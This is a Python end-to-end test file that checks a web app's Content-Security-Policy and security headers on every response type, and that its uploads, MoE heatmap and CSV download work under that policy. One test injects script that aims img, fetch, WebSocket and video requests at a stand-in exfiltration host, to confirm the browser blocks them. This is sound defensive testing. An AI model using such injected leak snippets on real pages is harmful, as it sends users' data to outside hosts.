"""The Content-Security-Policy: on every response the app serves, obeyed by every feature, and it blocks leaks."""

from __future__ import annotations

import re
import shutil
import urllib.error
import urllib.request
from urllib.parse import urljoin

import pytest

from tests.e2e._app import (
    ARTIFACTS,
    AppServer,
    assert_no_traceback,
    download,
    go_to,
    open_app,
    open_params,
    pick_target,
    screenshot,
    set_number,
    take_csp_violations,
    uploader,
    wait_idle,
)
from tests.fixtures.media_files import text_image

pytestmark = pytest.mark.e2e

MOE = "transformers:tiny-phimoe-routing"
# the directives that keep every fetch on the app's own origin (web/csp.py holds the whole policy)
MUST = ("default-src 'self'", "img-src 'self' data: blob:", "media-src 'self' data: blob:", "connect-src 'self'",
        "object-src 'none'", "frame-ancestors 'self'", "base-uri 'self'", "form-action 'self'")


def fetch(url: str, method: str = "GET") -> tuple[int, dict[str, str], bytes]:
    """Status, headers (lower-case names) and body of one request; an HTTP error is a response too."""
    req = urllib.request.Request(url, method=method, data=b"" if method in ("PUT", "POST") else None)
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status, {k.lower(): v for k, v in r.headers.items()}, r.read()
    except urllib.error.HTTPError as e:
        return e.code, {k.lower(): v for k, v in e.headers.items()}, e.read()


def assert_secured(headers: dict[str, str], what: str) -> None:
    policy = headers.get("content-security-policy", "")
    missing = [d for d in MUST if d not in policy]
    assert not missing, f"{what}: {missing} not in {policy!r}"
    assert "'unsafe-eval'" not in policy and "*" not in policy, policy
    assert headers.get("x-content-type-options") == "nosniff", what
    assert headers.get("referrer-policy") == "no-referrer", what


def test_every_kind_of_response_carries_the_policy(app):
    status, headers, body = fetch(app.url + "/")
    assert status == 200 and b"<html" in body
    assert_secured(headers, "index.html")
    html = body.decode()
    script = re.search(r'src="\./(static/js/[^"]+\.js)"', html).group(1)
    font = re.search(r'href="\./(static/media/[^"]+\.woff2)"', html).group(1)
    seen = {}
    for what, path, method, expect in [
        ("a page's address (served as index.html)", "/vision", "GET", 200),
        ("a script of the frontend", "/" + script, "GET", 200),
        ("a font", "/" + font, "GET", 200),
        ("the favicon", "/favicon.png", "GET", 200),
        ("health", "/_stcore/health", "GET", 200),
        ("host config", "/_stcore/host-config", "GET", 200),
        # an unknown address is index.html (client-side routing), except under the API prefix
        ("an unknown address", "/no/such/page", "GET", 200),
        ("a missing endpoint", "/_stcore/agent/no-such-endpoint", "GET", 404),
        ("a missing media file", "/media/0123456789abcdef.png", "GET", 404),
        # an upload without the XSRF token or a session is refused, and the refusal is secured too
        ("an upload", "/_stcore/upload_file/no-session/no-file", "PUT", None),
        ("an upload's removal", "/_stcore/upload_file/no-session/no-file", "DELETE", None),
    ]:
        status, headers, _ = fetch(app.url + path, method)
        seen[what] = status
        if expect is not None:
            assert status == expect, (what, status)
        assert_secured(headers, what)
    print("\nresponse kinds checked:", seen)


def test_a_remote_image_fetch_or_socket_is_blocked_by_the_browser(page, app, exfil):
    open_app(page, app)
    # what a renderer miss would put in the page: the browser refuses each before any request leaves
    page.evaluate("""root => {
        const img = document.createElement('img');
        img.src = root + '/exfil?via=img';
        document.querySelector("[data-testid='stMainBlockContainer']").appendChild(img);
        fetch(root + '/exfil?via=fetch').catch(() => {});
        try { new WebSocket(root.replace('http', 'ws') + '/exfil?via=ws'); } catch (e) {}
        const v = document.createElement('video');
        v.src = root + '/exfil?via=video';
        document.body.appendChild(v);
    }""", exfil.root)
    page.wait_for_timeout(1500)
    assert exfil.requests == [], [r.path for r in exfil.requests]
    blocked = " ".join(take_csp_violations(page))
    for directive in ("img-src", "connect-src", "media-src"):
        assert f"event: {directive} blocked {exfil.root}" in blocked, blocked


@pytest.fixture(scope="module")
def moe_app(app, tiny_phimoe, tmp_path_factory):
    """A second server like `app`, with a tiny local MoE installed so the routing heatmap can be drawn."""
    models = tmp_path_factory.mktemp("csp-models")
    shutil.copytree(tiny_phimoe, models / "transformers" / "tiny-phimoe-routing")
    env = dict(app.env, PHI_PLAYGROUND_MODELS=str(models))
    server = AppServer(env, ARTIFACTS / "server-csp.log").start()
    try:
        yield server
    finally:
        server.stop()


def test_every_page_an_upload_a_heatmap_and_a_download_work_under_the_policy(page, moe_app):
    responses = []
    page.on("response", lambda r: responses.append((r.request.method, r.url, r.status, r.all_headers()))
            if r.url.startswith(moe_app.url) else None)
    open_app(page, moe_app)
    for title in ("Compare", "Models", "Chat"):
        go_to(page, title)
        assert_no_traceback(page)

    # an upload (PUT) and its thumbnail (a media URL) on the Vision page
    go_to(page, "Vision")
    uploader(page, "Images").set_input_files([{"name": "sign.png", "mimeType": "image/png",
                                               "buffer": text_image("STOP")}])
    wait_idle(page)
    thumb = page.get_by_test_id("stImage").locator("img").first
    thumb.wait_for()
    assert page.evaluate("img => img.complete && img.naturalWidth > 0", thumb.element_handle())
    media = urljoin(moe_app.url + "/", thumb.get_attribute("src"))
    status, headers, body = fetch(media)
    assert status == 200 and headers["content-type"].startswith("image/") and len(body) > 100
    assert_secured(headers, "a media file")

    # the MoE routing heatmap (Altair through Vega), its load chart and tables, and a CSV download
    go_to(page, "MoE reasoning")
    pick_target(page, MOE)
    open_params(page)
    set_number(page, "Max tokens", 4)
    page.get_by_role("tab", name="Expert routing").click()
    page.get_by_role("button", name="Route", exact=True).click()
    wait_idle(page)
    chart = page.get_by_test_id("stVegaLiteChart").first
    chart.locator("canvas, svg").first.wait_for(timeout=120_000)
    box = chart.bounding_box()
    assert box and box["height"] > 100, box
    csv = download(page, page.get_by_role("button", name="Routing CSV").first).path().read_text()
    assert csv.splitlines()[0].count(",") >= 3 and len(csv.splitlines()) > 1
    assert_no_traceback(page)
    screenshot(page, "csp-moe-heatmap")

    puts = [r for r in responses if r[0] == "PUT"]
    assert puts and all(r[2] == 204 or r[2] == 200 for r in puts), puts
    kinds = {f"{m} /{u.removeprefix(moe_app.url).lstrip('/').split('/')[0].split('?')[0]}" for m, u, _, _ in responses}
    unsecured = [(m, u, s) for m, u, s, h in responses
                 if "connect-src 'self'" not in h.get("content-security-policy", "")]
    assert unsecured == [], unsecured
    print(f"\n{len(responses)} responses to the browser, all with the policy: {sorted(kinds)}")
    # the page fixture then checks that none of this produced a CSP violation
